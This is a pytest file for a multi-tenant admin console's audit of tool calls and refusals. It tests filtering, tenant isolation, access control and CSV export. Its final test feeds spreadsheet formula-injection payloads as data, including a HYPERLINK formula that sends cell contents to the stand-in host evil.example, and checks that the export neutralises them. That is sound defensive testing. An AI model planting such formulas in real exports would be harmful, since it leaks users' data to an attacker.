"""The audit: every tool call and every refusal, with who, where, what and why; filtered in
the admin and exported as CSV."""
import csv
import io

from console.models import AuditEntry

from ..ahp.protocol.harness import AhpClient, default_chat
from .conftest import SENTENCES

AUDIT = "/admin/console/auditentry/"


def outcomes(queryset):
    return sorted((c.tool_name, c.outcome, c.refusal_reason) for c in queryset.with_outcome())


def listed(client, query):
    return sorted(call.tool_name for call in client.get(f"{AUDIT}{query}").context["cl"].result_list)


def test_it_classifies_every_call_and_every_refusal_by_its_sentence(acme, acme_work):
    turn = acme_work.turn(acme_work.session())
    for reason, sentence in SENTENCES.items():
        acme_work.refused(turn, sentence, tool=f"refused_{reason}")
    acme_work.ran(turn, "lint")
    acme_work.ran(turn, "build", success=False)
    acme_work.timed_out(turn, "pick")
    acme_work.client_call(turn, "ask")
    assert outcomes(AuditEntry.objects.for_tenant(acme.tenant)) == [
        ("ask", "waiting", ""),
        ("build", "failed", ""),
        ("lint", "ok", ""),
        ("pick", "timed_out", ""),
        ("refused_availability", "refused", "availability"),
        ("refused_grant", "refused", "grant"),
        ("refused_limit", "refused", "limit"),
        ("refused_unknown_tool", "refused", "unknown_tool"),
    ]


def test_a_refusal_over_a_real_socket_is_audited_with_who_and_where(acme, host, tenant_admin):
    with AhpClient(host.port, acme.tokens["member"]) as client:
        session = client.create_session()
        chat = default_chat(client, session)
        client.subscribe(chat)
        client.reply_to(client.start_turn(chat, '/call nope {"x": 1}'))
    entry = AuditEntry.objects.for_tenant(acme.tenant).with_outcome().get()
    assert (entry.turn.sender, entry.outcome, entry.refusal_reason) == (acme.member, "refused", "unknown_tool")
    page = tenant_admin.get(f"{AUDIT}?reason=unknown_tool").content.decode()
    assert "acme-member" in page and "No tool named &quot;nope&quot; is available in this chat." in page


def test_the_admin_filters_by_outcome_and_reason(acme, acme_work, tenant_admin):
    turn = acme_work.turn(acme_work.session())
    acme_work.refused(turn, SENTENCES["grant"], tool="guarded")
    acme_work.refused(turn, SENTENCES["limit"], tool="create_session")
    acme_work.ran(turn, "lint")
    assert listed(tenant_admin, "?reason=grant") == ["guarded"]
    assert listed(tenant_admin, "?reason=limit") == ["create_session"]
    assert listed(tenant_admin, "?outcome=ok") == ["lint"]
    assert listed(tenant_admin, "?outcome=refused") == ["create_session", "guarded"]


def test_a_tenant_admin_sees_only_their_tenants_audit(acme, globex, acme_work, tenant_admin):
    from .conftest import Work

    Work(globex).refused(Work(globex).turn(Work(globex).session()), SENTENCES["unknown_tool"], tool="globex_secret")
    acme_work.ran(acme_work.turn(acme_work.session()), "acme_tool")
    assert listed(tenant_admin, "") == ["acme_tool"]
    exported = tenant_admin.get(f"{AUDIT}export.csv").content.decode()
    assert "acme_tool" in exported and "globex_secret" not in exported


def test_it_exports_the_filtered_audit_as_csv(acme, acme_work, tenant_admin):
    session = acme_work.session()
    turn = acme_work.turn(session)
    acme_work.refused(turn, SENTENCES["grant"], tool="guarded")
    acme_work.ran(turn, "lint", source="plugin")
    response = tenant_admin.get(f"{AUDIT}export.csv?outcome=refused")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    row = rows[0]
    assert {k: row[k] for k in ("tenant", "who", "session", "chat", "tool", "source", "outcome", "refusal reason",
                                "sentence")} == {
        "tenant": "acme", "who": "acme-member", "session": str(session.id), "chat": str(turn.chat_id),
        "tool": "guarded", "source": "", "outcome": "refused", "refusal reason": "grant",
        "sentence": "acme-guest may not chat:tool here"}
    everything = list(csv.DictReader(io.StringIO(tenant_admin.get(f"{AUDIT}export.csv").content.decode())))
    assert sorted(r["tool"] for r in everything) == ["guarded", "lint"]
    assert [r["source"] for r in everything if r["tool"] == "lint"] == ["plugin"]


def test_a_member_cannot_read_the_audit(acme, client):
    acme.member.is_staff = True
    acme.member.save()
    client.force_login(acme.member)
    assert client.get(AUDIT).status_code == 403
    assert client.get(f"{AUDIT}export.csv").status_code == 403


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(acme, acme_work, tenant_admin):
    turn = acme_work.turn(acme_work.session())
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd", "-2+cmd", "@SUM(A1)", "\tTAB", "\rCR"]
    for formula in formulas:
        acme_work.ran(turn, formula)
    acme_work.ran(turn, "lint")
    rows = csv.DictReader(io.StringIO(tenant_admin.get(f"{AUDIT}export.csv").content.decode()))
    tools = sorted(row["tool"] for row in rows)
    assert tools == sorted(["'" + formula for formula in formulas] + ["lint"])
